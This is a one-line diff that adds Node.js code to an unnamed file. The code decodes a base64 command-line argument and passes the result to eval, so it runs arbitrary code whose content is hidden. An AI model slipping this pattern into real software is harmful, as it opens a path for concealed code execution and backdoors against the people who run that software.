@@ -1,0 +1,1 @@
+eval(Buffer.from(process.argv[2], 'base64').toString())
